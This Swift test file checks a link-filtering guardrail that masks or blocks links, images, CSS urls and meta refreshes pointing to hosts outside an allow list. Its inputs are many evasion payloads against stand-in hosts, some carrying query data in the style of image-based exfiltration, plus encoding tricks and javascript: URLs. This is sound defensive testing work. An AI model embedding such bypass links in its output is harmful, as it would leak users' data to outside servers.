import MillraceTesting
import Testing

@testable import MillraceRails

@Suite struct LinkRailTests {
    private static func rail(_ action: MatchAction = .mask) throws -> LinkRail {
        try LinkRail(allowedHosts: ["good.example", "*.good.example"], action: action)
    }

    @Test(
        "RG-14: a link that leads elsewhere loses its target and keeps its text",
        arguments: [
            ("![x](https://evil.test/p?q=1)", "![x]"), ("a [b](https://evil.test 'c') d", "a [b] d"),
            ("[b](<https://evil.test/a b>)", "[b]"),
            ("[b](https://evil.test/(a))!", "[b]!"), ("[b](//evil.test)", "[b]"), ("[b](\n  https://evil.test\n)", "[b]"),
            ("[1]: https://evil.test\nx", "[1]:\nx"), ("[1]:\n  <https://evil.test>", "[1]:"), ("see <https://evil.test> x", "see  x"),
            ("<img src=https://evil.test/x>", ""), ("<IMG\nSRC = 'HTTPS://EVIL.TEST'>y", "y"), ("<a href=\"//evil.test\">t</a>", "t</a>"),
            ("<img srcset='a.png 1x, https://evil.test/b 2x'>", ""), ("<video><source src=//evil.test></video>", "<video></video>"),
            ("<p style=\"background: url( '//evil.test' )\">x", "x"), ("a{b:url(https://evil.test/x)}", "a{b:url()}"),
            ("@import 'https://evil.test';", "@import \"\";"),
            ("[b](javascript:alert(1))", "[b]"), ("<form action=//evil.test>", ""), ("<iframe srcdoc='&lt;img src=//evil.test>'>", ""),
            ("[b](https&colon;//evil.test)", "[b]"), ("[b](https://good.example\\@evil.test)", "[b]"),
            ("<img src=\"ht\ttps://evil.test\">", ""),
            ("url(\\68ttps://evil.test)", "url()"), ("<meta http-equiv=refresh content='0; URL=//evil.test'>", ""),
            ("[https://good.example/a](https://evil.test/b)", "[https://good.example/a]"), ("![x](https://evil.test/?q", "![x]"),
            ("<img src=https://evil.test/", ""),
        ])
    func masked(_ text: String, _ shown: String) throws {
        let output = try Self.rail().filterWhole(text)
        #expect(output.text == shown)
        #expect(!output.findings.isEmpty)
        #expect(try Self.rail(.block).filterWhole(text).block != nil)
        #expect(try Self.rail(.notice).filterWhole(text).text == text)
    }

    @Test(
        "an address in running text is taken out as a whole",
        arguments: [
            ("see https://evil.test/a?b=c, ok", "see ‹link removed›, ok"), ("(www.evil.test)", "(‹link removed›)"),
            ("HTTP://EVIL.TEST", "‹link removed›"),
            ("\"https://evil.test\"", "\"‹link removed›\""), ("https://good.example@evil.test x", "‹link removed› x"),
            ("http:\\\\evil.test", "‹link removed›"),
            ("ftp://good.example/a", "‹link removed›"), ("x://evil.test/", "x‹link removed›"),
            ("https://good.example.evil.test.", "‹link removed›."),
            ("https://[2001:db8::1]/a b", "‹link removed› b"), ("https://gооd.example", "‹link removed›"),
        ])
    func addresses(_ text: String, _ shown: String) throws {
        #expect(try Self.rail().filterWhole(text).text == shown)
    }

    @Test(
        "what stays on its page or leads to a host of the list is left as it is",
        arguments: [
            "[a](https://good.example/x?y=1#z)", "![a](https://img.good.example/a.png \"t\")", "https://good.example, yes",
            "<https://good.example>", "www.good.example/a",
            "[a](/b) [c](#d) [e](f.html) [g]()", "[1]: https://good.example 'title'", "[^1]: A note.",
            "<a href=\"https://good.example\" title=\"a > b\">x</a>",
            "<img src=logo.png srcset='a 1x, b 2x'>", "a[i](x, y); b[0]: 1", "HashMap<String, Vec<u8>>", "if a <b and c> d", "1 < 2 > 0 <3",
            "vector<pair<int, a::b>>",
            "- [ ] x\n- [x] y", "http is a scheme, https: too, and www. is a prefix", "<h1 class='x'>T</h1>", "url is a word; @importance",
            "C:\\\\x and a://",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>", "[a [b] c](https://good.example)", "x]: y", "<", "]", "h", "![", "[a](",
            "a <b c", "url(", "https://",
        ])
    func ordinary(_ text: String) throws {
        let output = try Self.rail().filterWhole(text)
        #expect(output.text == text)
        #expect(output.findings == [])
        #expect(try Self.rail().filterScalars(text).text == text)
    }

    @Test("constructs inside of what only looks like one are found")
    func nested() throws {
        let rail = try Self.rail(.block)
        for text in [
            "[a](<b ![x](//evil.test)\n", "[a](good ![x](//evil.test))", "<x, ![a](//evil.test)>", "<x, y=\"<img src=//evil.test>\">",
            "<https://evil.test/?q=secret a>",
            "[a](b \"c\" ![x](//evil.test))", "<https://evil.test/?q=\"x> \" >", "https://good.example/[a](//evil.test)",
            "https://good.example/![a](//evil.test)",
            "[x]: good.html![x](//evil.test)", "[![a](//evil.test)](https://good.example)", "[https://good.example/a]:https://evil.test",
        ] {
            #expect(rail.filterWhole(text).block != nil, "\(text)")
        }
    }

    @Test(
        "RG-14: what a tag or a target that passes holds is read, too",
        arguments: [
            #"\<a title="![x](https://evil.example/?d=S)">"#, #"<a title="![x](https://evil.example/?d=S)">"#,
            #"\<a href="/![x](//evil.example/?d=S)">"#, #"\<svg xmlns="http://www.w3.org/![x](//evil.example/)">"#,
            #"a](/ok "![x](https://evil.example/?d=S)")"#, #"\[a](/ok "![x](https://evil.example/?d=S)")"#, "](/![x](//evil.example/?d=S))",
        ])
    func inside(_ text: String) throws {
        #expect(try Self.rail(.block).filterWhole(text).block?.reason.hasSuffix("_host") == true)
        #expect(try !Self.rail().filterScalars(text).text.contains("evil"))
    }

    @Test(
        "RG-14: addresses that only browsers read as such are found",
        arguments: [
            #"<img srcset="a.png 1x,/\evil.example/p?d=S 2x">"#, #"<img srcset="a.png 1x,https:evil.example/p 2x">"#,
            #"<meta http-equiv=refresh content="0;https://evil.example/?d=S">"#,
            #"<meta http-equiv=refresh content="0;url =https://evil.example/?d=S">"#,
            #"<img src="&#00000000000000000000104;ttps://evil.example/?d=S">"#, #"<a href="/" ping="/x https://evil.example/?d=S">"#,
            #"<svg><image><set attributeName="href" to="https://evil.example/?d=S"/></image></svg>"#,
            #"<set attributeName="href" to="https:evil.example/?d=S"/>"#, #"<rect filter="url(https://evil.example/f)">"#,
            "> ![x](\n> //evil.example/?d=S)", "> [a]:\n> //evil.example/?d=S\n\n![b][a]", "> [x](/a\n> '![y](//evil.example)')",
            #"<style>a{background:u\72l(//evil.example/?d=S)}</style>"#, #"a{background:image-set("//evil.example/p" 1x)}"#,
            #"@import/**/"//evil.example";"#, #"@import/*"*/"https:evil.example";"#, #"x /\evil.example"#, "(//evil.example/a",
            "![x](>//evil.example)", "a //2130706433/", "image-set(url(a.png) 1x, 'https:evil.example' 2x)",
        ])
    func browsers(_ text: String) throws {
        #expect(try Self.rail(.block).filterWhole(text).block != nil)
        let masked = try Self.rail()
        #expect(masked.filterScalars(text).text == masked.filterWhole(text).text)
    }

    @Test(
        "two slashes in code and in comments are no address",
        arguments: [
            "x = 1 // a comment", "//note: later", "a //b", "7 // 2", "a/b//c", "image-set(\"a.png\" 1x, url(b.png) 2x)", "@import/x",
            "<img srcset=\"a.png 1x, b.png 1.5x\">", "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">",
            "<p title=\"see [a](https://good.example)\">", "[a](/b \"c [d](https://good.example)\")", "> [a](/b\n> 'c')",
        ])
    func slashes(_ text: String) throws {
        #expect(try Self.rail().filterWhole(text).text == text)
        #expect(try Self.rail().filterScalars(text).text == text)
    }

    @Test("texts in texts are read four deep, and deeper ones are refused")
    func depth() throws {
        let nested = String(repeating: "](", count: 1_000) + "a" + String(repeating: ")", count: 1_000)
        #expect(try Self.rail(.block).filterWhole(nested).block?.reason == "link_unreadable")
        #expect(try Self.rail(.block).filterWhole("](](](a)))").block == nil)
    }

    @Test("what may be an image's is judged as one where a bracket is escaped, or in code")
    func doubtfulImages() throws {
        let rail = try LinkRail(allowedHosts: ["*"], imageHosts: [], action: .block)
        for text in [
            #"![a \[ b](https://evil.example/?d=S)"#, "![a `]` b](https://evil.example/?d=S)", #"image-set("https://evil.example/p" 1x)"#,
            #"@import/**/"//evil.example""#,
        ] {
            #expect(rail.filterWhole(text).block?.reason == "image_host", "\(text)")
        }
        #expect(rail.filterWhole("[a](https://x.test) and [b [c] d](https://y.test), \"https://z.test\"").block == nil)
        let images = try LinkRail(allowedHosts: [], imageHosts: ["img.test"], action: .block)
        #expect(images.filterWhole("![a](https://img.test/a.png) <img src=\"https://img.test/b.png\">").block == nil)
    }

    @Test("images have a list of their own")
    func images() throws {
        let rail = try LinkRail(allowedHosts: ["*"], imageHosts: [], action: .mask)
        #expect(rail.filterWhole("[a](https://x.test) ![b](https://x.test)").text == "[a](https://x.test) ![b]")
        #expect(rail.filterWhole("[![b](https://x.test)](https://y.test)").text == "[![b]](https://y.test)")
        #expect(rail.filterWhole("<a href=//x.test>t</a><img src=//x.test>").text == "<a href=//x.test>t</a>")
        #expect(rail.filterWhole("[a]: https://x.test").findings.map(\.reason) == ["image_host"])
    }

    @Test("queries, long paths, links without a host and other schemes can be refused and allowed")
    func options() throws {
        let strict = try LinkRail(
            allowedHosts: ["good.example"], allowsRelative: false, allowsQuery: false, maxPathByteCount: 8, action: .block)
        #expect(strict.filterWhole("https://good.example/a?b").block?.reason == "link_query")
        #expect(strict.filterWhole("https://good.example/a#b").block?.reason == "link_query")
        #expect(strict.filterWhole("https://good.example/123456789").block?.reason == "link_path")
        #expect(strict.filterWhole("[a](b.html)").block?.reason == "link_relative")
        #expect(strict.filterWhole("https://good.example/a").block == nil)
        let mail = try LinkRail(allowedHosts: [], schemes: ["mailto", "notes"], action: .block)
        #expect(mail.filterWhole("[a](mailto:x@y.test)").block == nil)
        #expect(mail.filterWhole("notes://x").block?.reason == "link_host")
        #expect(throws: RailConfigurationError.self) { try LinkRail(allowedHosts: ["https://good.example"]) }
        #expect(throws: RailConfigurationError.self) { try LinkRail(allowedHosts: [], maxHeldByteCount: 3) }
    }

    @Test("RG-12: a construct that never closes is broken where links are masked, and blocked where they are blocked")
    func tooLong() throws {
        let long = String(repeating: "a", count: 300)
        func rail(_ action: MatchAction) throws -> LinkRail {
            try LinkRail(allowedHosts: ["good.example"], action: action, maxHeldByteCount: 64)
        }
        for text in ["<img alt=\"\(long)", "[a](\(long)", "https://good.example/\(long) x", "url(\(long)", "[a]: \(long) y"] {
            #expect(try rail(.block).filterWhole(text).block?.reason == "link_too_long", "\(text)")
            let masked = try rail(.mask).filterWhole(text + "\" src=//evil.test>)")
            #expect(masked.findings.first?.reason == "link_too_long", "\(text)")
            #expect(try rail(.mask).maxHeld(text) <= 66, "\(text)")
        }
        #expect(try rail(.mask).filterWhole("<img alt=\"\(long)\" src=//evil.test>").text == "&lt;img alt=\"\(long)\" src=//evil.test>")
    }

    @Test("P20: what leaves is the same however the text is cut", arguments: [MatchAction.mask, .block, .notice])
    func conformance(_ action: MatchAction) throws {
        let kit = RailConformance(
            try Self.rail(action),
            matches: [
                "![x](https://evil.test/p)", "[b](<//evil.test>)", "<img src=https://evil.test>", "https://evil.test/x",
                "[1]: //evil.test\n", "url(//evil.test)",
                "<https://evil.test>", "[b](javascript:x)", "www.evil.test",
                "<a title='//evil.test'>", "[a](/b '![x](//evil.test)')", "image-set('//evil.test')", "@import/**/'//evil.test'",
            ],
            nearMatches: [
                "//", "/", "image-set(", "@import/*", "*/", "> ",
                "[a](b)", "<b>", "[a](https://good.example)", "<a href='x'>", "http", "](", "[a](<b\n", "<x, y>", "[x", "!", "\\", "\"",
                "'", "\n\n", ")", ">", "]:",
            ],
            filler: ["so ", "it is, ", "né ", "中文 ", "\n"], maxHeldByteCount: 9_000, hidesMatches: action != .notice)
        var narrow = kit
        narrow.rail = try LinkRail(allowedHosts: ["good.example"], action: action, maxHeldByteCount: 64)
        narrow.maxHeldByteCount = 68
        narrow.hidesMatches = false
        narrow.pieceCount = 0...24
        // Text beside a match may belong to the same construct, which then leaves as a whole, or goes.
        var cut = kit
        cut.hidesMatches = false
        #expect(cut.failures(seeds: 0..<60) == [])
        #expect(narrow.failures(seeds: 1_000..<1_040) == [])
    }

    @Test("a text that is made to be read again and again costs no more than a few readings a byte")
    func linear() throws {
        for unit in ["<a ", "[a](", "](<", "[[[[", "<a, <b, ", "url(", "](a ](", "<a x=\"", "https://[", "@import ", "<x, y>](", "]:<"] {
            var counts: [Double] = []
            for size in [10_000, 40_000] {
                let text = String(repeating: unit, count: size / unit.utf8.count)
                var filter = LinkFilter(policy: LinkPolicy.ofTests, action: .mask, maxHeldByteCount: 8_192, reply: nil)
                var output = FilterOutput()
                for piece in [text.prefix(1_000), text.dropFirst(1_000)] { filter.push(String(piece), into: &output) }
                filter.finish(into: &output)
                counts.append(Double(filter.stepCount) / Double(size))
            }
            #expect(counts[1] <= 16, "\(unit): \(counts)")
        }
    }
}

extension LinkPolicy {
    /// A policy that allows nothing but what stays on its page.
    static let ofTests = LinkPolicy(
        linkHosts: [], resourceHosts: [], schemes: ["https"], allowsRelative: true, allowsQuery: true, maxPathByteCount: nil)
}
